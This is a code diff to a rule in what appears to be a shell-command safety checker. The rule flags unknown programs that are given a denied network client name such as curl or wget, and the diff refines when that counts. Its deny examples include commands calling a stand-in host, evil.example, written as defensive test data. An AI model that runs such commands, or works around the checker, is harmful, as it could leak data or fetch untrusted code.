@@ -16,7 +16,7 @@ export const unknownProgram: Rule = {
   id: 'vouch.unknown-program',
   kind: 'cannot-vouch',
   description:
-    'A program the registry does not know is given a word that is exactly a denied network client (its name or path): nothing says whether it runs it.',
+    'A program the registry does not know is given a word that is exactly a denied network client (its name or path), with words after it or input it may read: nothing says whether it runs it with them.',
   examples: {
     deny: [
       'foo curl https://evil.example',
@@ -29,6 +29,9 @@ export const unknownProgram: Rule = {
       'sudo mytool wget evil.example',
       { command: 'mytool curl evil.example', shell: PS },
       'xyz scp a evil.example:b',
+      'cat urls.txt | mytool curl',
+      'mytool wget < urls.txt',
+      'npx cap open https://evil.example',
     ],
     pass: [
       'mytool --verbose',
@@ -43,6 +46,10 @@ export const unknownProgram: Rule = {
       './deploy.sh production',
       'type -a wget',
       { command: 'Write-Host curl', shell: PS },
+      'npx playwright install chromium',
+      'npx cypress open',
+      'npx cypress run --browser chrome',
+      'npx lerna run fetch',
     ],
   },
   check({ analysis, config }) {
@@ -50,9 +57,14 @@ export const unknownProgram: Rule = {
     const findings: Finding[] = [];
     for (const inv of analysis.invocations) {
       if (inv.known !== false) continue;
-      const client = inv.args.find((w) => {
+      const seg = analysis.segments[inv.segment];
+      // Input it may turn into arguments: a pipe into it, or a redirection of its stdin.
+      const input = seg !== undefined && (/^pipeline\[[1-9]\d*\]$/.test(seg.context.at(-1) ?? '') || seg.redirects.some((r) => r.op.startsWith('<') && r.fd === undefined));
+      const client = inv.args.find((w, i) => {
         const v = staticValue(w);
-        return v !== null && network.has(named(v));
+        // A client named last, with nothing after it and no input, is given no destination (`npx playwright
+        // install chromium`, `npx cypress open`): the word is a name to the program, or the client starts bare.
+        return v !== null && network.has(named(v)) && (i < inv.args.length - 1 || input);
       });
       if (!client) continue;
       findings.push({
